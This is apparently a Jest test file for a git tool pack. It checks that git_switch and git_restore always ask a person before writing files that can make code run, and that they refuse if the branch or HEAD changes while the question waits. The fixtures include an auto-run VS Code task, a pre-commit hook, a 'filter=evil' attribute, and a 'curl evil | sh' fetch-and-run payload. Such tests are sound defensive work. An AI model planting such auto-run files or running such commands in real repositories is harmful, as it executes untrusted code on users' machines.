// Issue 30, finding 3: a branch that carries files that make code run (.vscode/tasks.json,
// .husky/pre-commit, .gitattributes). git_switch asks a person every time, showing their content;
// the yes covers the exact commit and versions shown, and a branch or HEAD that moves while the
// question waits is refused with nothing written. Real repositories, real git.
import { execFileSync } from 'node:child_process';
import { promises as fs } from 'node:fs';
import * as path from 'node:path';
import type { ConfirmationRequest } from '@toolpacks/registry/host';
import { createPackHarness, initRepository, type PackHarness } from '@toolpacks/host-node/testing';
import { gitPack } from '../index';

jest.setTimeout(60_000);

const TASK =
  '{"version":"2.0.0","tasks":[{"label":"x","type":"shell","command":"touch PWNED","runOptions":{"runOn":"folderOpen"}}]}\n';
const HOOK = '#!/bin/sh\ntouch HOOKED\n';
const ATTRIBUTES = '* filter=evil\n';

let h: PackHarness;
const sh = (...args: string[]) => execFileSync('git', args, { cwd: h.root, encoding: 'utf8' });
const current = () => sh('branch', '--show-current').trim();
const exists = (file: string) =>
  fs.stat(path.join(h.root, file)).then(
    () => true,
    () => false,
  );
const SENSITIVE = ['.vscode/tasks.json', '.husky/pre-commit', '.gitattributes'];

/** A branch `dev` (off main) that adds the three files; main is checked out again. */
async function devBranch(files: Record<string, string> = {}) {
  sh('switch', '--quiet', '-c', 'dev');
  const all = { '.vscode/tasks.json': TASK, '.husky/pre-commit': HOOK, '.gitattributes': ATTRIBUTES, ...files };
  for (const [file, content] of Object.entries(all)) {
    await fs.mkdir(path.dirname(path.join(h.root, file)), { recursive: true });
    await fs.writeFile(path.join(h.root, file), content);
  }
  sh('add', '--all');
  sh('commit', '--quiet', '-m', 'dev tooling');
  sh('switch', '--quiet', 'main');
  return sh('rev-parse', 'dev').trim();
}

/** Makes another commit on `branch` that changes the task (the world moving while a question waits). */
function moveBranch(branch: string) {
  const tree = sh('rev-parse', `${branch}^{tree}`).trim();
  const blob = execFileSync('git', ['hash-object', '-w', '--stdin'], {
    cwd: h.root,
    input: TASK.replace('touch PWNED', 'curl evil | sh'),
    encoding: 'utf8',
  }).trim();
  const index = path.join(h.root, '.git', 'scratch-index');
  const env = { ...process.env, GIT_INDEX_FILE: index };
  execFileSync('git', ['read-tree', tree], { cwd: h.root, env });
  execFileSync('git', ['update-index', '--cacheinfo', `100644,${blob},.vscode/tasks.json`], { cwd: h.root, env });
  const newTree = execFileSync('git', ['write-tree'], { cwd: h.root, env, encoding: 'utf8' }).trim();
  const commit = sh('commit-tree', newTree, '-p', branch, '-m', 'moved').trim();
  sh('update-ref', `refs/heads/${branch}`, commit);
}

beforeEach(async () => {
  h = await createPackHarness([gitPack]);
  await initRepository(h.root, [{ files: { 'a.txt': 'a\n' }, message: 'first' }]);
  await h.host.refresh();
});
afterEach(() => h.dispose());

describe('git_switch onto a branch that carries files that make code run', () => {
  it('auto-approve alone is not enough: declined, nothing written, still on main', async () => {
    await devBranch();
    for (const input of [{ branch: 'dev' }, { branch: 'topic', create: true, startPoint: 'dev' }]) {
      const result = await h.call('git_switch', input, { autoApprove: true });
      expect([input, result.status]).toEqual([input, 'declined']);
    }
    for (const file of SENSITIVE) expect([file, await exists(file)]).toEqual([file, false]);
    expect(current()).toBe('main');
  });

  it('asks every time, naming each file with its content and the blob written; a yes switches', async () => {
    const dev = await devBranch();
    const asked: ConfirmationRequest[] = [];
    const result = await h.call(
      'git_switch',
      { branch: 'dev' },
      { autoApprove: true, confirm: async (r) => (asked.push(r), 'once') },
    );
    expect(asked).toHaveLength(1);
    expect(asked[0].alwaysConfirm).toBe(true);
    const message = asked[0].message;
    expect(message).toContain('Files this switch writes or deletes (3), which can make code run:');
    for (const file of SENSITIVE) {
      const blob = sh('rev-parse', `${dev}:${file}`).trim();
      expect(message).toContain(`- ${file} — `);
      expect(message).toContain(`writes blob ${blob}`);
    }
    expect(message).toContain('+{"version":"2.0.0","tasks":[{"label":"x","type":"shell","command":"touch PWNED"');
    expect(message).toContain('+touch HOOKED');
    expect(message).toContain('+* filter=evil');
    expect(result.status).toBe('ok');
    expect(current()).toBe('dev');
    expect(await h.read('.vscode/tasks.json')).toBe(TASK);
    expect(sh('rev-parse', 'HEAD').trim()).toBe(dev);
  });

  it('create with startPoint asks the same way and lands on the start point shown', async () => {
    const dev = await devBranch();
    const asked: ConfirmationRequest[] = [];
    const result = await h.call(
      'git_switch',
      { branch: 'topic', create: true, startPoint: 'dev' },
      { confirm: async (r) => (asked.push(r), 'once') },
    );
    expect(asked[0].alwaysConfirm).toBe(true);
    expect(asked[0].message).toContain('+touch HOOKED');
    expect(result.status).toBe('ok');
    expect(current()).toBe('topic');
    expect(sh('rev-parse', 'topic').trim()).toBe(dev);
  });

  it('refuses when the branch moves while the question waits: nothing written, still on main', async () => {
    await devBranch();
    const result = await h.call('git_switch', { branch: 'dev' }, { confirm: async () => (moveBranch('dev'), 'once') });
    expect(result.status).toBe('error');
    expect(result.text).toMatch(
      /changed after the question was shown[\s\S]*the commit it lands on: shown [0-9a-f]{40}/,
    );
    for (const file of SENSITIVE) expect([file, await exists(file)]).toEqual([file, false]);
    expect(current()).toBe('main');
  });

  it('refuses when the start point moves while the question waits (create)', async () => {
    await devBranch();
    const result = await h.call(
      'git_switch',
      { branch: 'topic', create: true, startPoint: 'dev' },
      { confirm: async () => (moveBranch('dev'), 'once') },
    );
    expect(result.status).toBe('error');
    expect(result.text).toMatch(/changed after the question was shown/);
    expect(await exists('.vscode/tasks.json')).toBe(false);
    expect(sh('branch', '--list', 'topic')).toBe('');
  });

  it('refuses when HEAD moves while the question waits (the files written would differ)', async () => {
    await devBranch();
    const result = await h.call(
      'git_switch',
      { branch: 'dev' },
      { confirm: async () => (sh('commit', '--quiet', '--allow-empty', '-m', 'meanwhile'), 'once') },
    );
    expect(result.status).toBe('error');
    expect(result.text).toMatch(/the commit checked out: shown [0-9a-f]{40}, now [0-9a-f]{40}/);
    expect(await exists('.husky/pre-commit')).toBe(false);
  });

  it('a hook the question cannot show (a NUL byte: binary) is refused even with a yes', async () => {
    await devBranch({ '.husky/pre-commit': '#!/bin/sh\ntouch HOOKED\n\0\n' });
    const asked: ConfirmationRequest[] = [];
    const result = await h.call('git_switch', { branch: 'dev' }, { confirm: async (r) => (asked.push(r), 'once') });
    expect(asked[0].message).toMatch(
      /- \.husky\/pre-commit — .*git_switch will refuse: its new content is binary \(\d+ bytes, blob [0-9a-f]{40}\)/,
    );
    expect(result.status).toBe('error');
    expect(result.text).toMatch(/cannot show: \.husky\/pre-commit/);
    expect(await exists('.husky/pre-commit')).toBe(false);
    expect(current()).toBe('main');
  });

  it('a switch that writes nothing sensitive still asks an ordinary question that auto-approve covers', async () => {
    sh('switch', '--quiet', '-c', 'plain');
    await fs.writeFile(path.join(h.root, 'b.txt'), 'b\n');
    sh('add', 'b.txt');
    sh('commit', '--quiet', '-m', 'plain');
    sh('switch', '--quiet', 'main');
    const result = await h.call('git_switch', { branch: 'plain' }, { autoApprove: true });
    expect(result.status).toBe('ok');
    expect(current()).toBe('plain');
    // The reflog reads as a checkout from main to plain (so `git switch -` goes back).
    expect(sh('reflog', '-1', '--format=%gs').trim()).toBe('checkout: moving from main to plain');
    sh('switch', '--quiet', '-');
    expect(current()).toBe('main');
  });
});

describe('git_switch --create by commit id', () => {
  it('still tracks a remote-tracking start point, as git switch --create does', async () => {
    sh('remote', 'add', 'origin', 'https://example.invalid/repo.git');
    sh('update-ref', 'refs/remotes/origin/feature', 'HEAD');
    const result = await h.call(
      'git_switch',
      { branch: 'feature', create: true, startPoint: 'origin/feature' },
      { autoApprove: true },
    );
    expect(result.status).toBe('ok');
    expect(sh('rev-parse', '--abbrev-ref', 'feature@{upstream}').trim()).toBe('origin/feature');
    expect(
      (await h.call('git_switch', { branch: 'local', create: true, startPoint: 'main' }, { autoApprove: true })).status,
    ).toBe('ok');
    expect(() => sh('rev-parse', '--abbrev-ref', 'local@{upstream}')).toThrow();
  });
});

describe('git_restore of a file that makes code run', () => {
  it('refuses when the staged version changes while the question waits; the version shown is bound', async () => {
    await fs.mkdir(path.join(h.root, '.vscode'));
    await fs.writeFile(path.join(h.root, '.vscode/tasks.json'), '{}\n');
    sh('add', '.vscode/tasks.json');
    sh('commit', '--quiet', '-m', 'tasks');
    await fs.writeFile(path.join(h.root, '.vscode/tasks.json'), '{"mine":true}\n');
    const asked: ConfirmationRequest[] = [];
    const stageOther = () => {
      const blob = execFileSync('git', ['hash-object', '-w', '--stdin'], {
        cwd: h.root,
        input: TASK,
        encoding: 'utf8',
      });
      sh('update-index', '--cacheinfo', `100644,${blob.trim()},.vscode/tasks.json`);
    };
    const result = await h.call(
      'git_restore',
      { paths: ['.vscode/tasks.json'] },
      { confirm: async (r) => (asked.push(r), stageOther(), 'once') },
    );
    expect(asked[0].alwaysConfirm).toBe(true);
    expect(asked[0].message).toMatch(/- \.vscode\/tasks\.json — tasks are shell commands.*; writes blob [0-9a-f]{40}/);
    expect(result.status).toBe('error');
    expect(result.text).toMatch(/changed after the question was shown[\s\S]*\.vscode\/tasks\.json@/);
    expect(await h.read('.vscode/tasks.json')).toBe('{"mine":true}\n');
  });
});
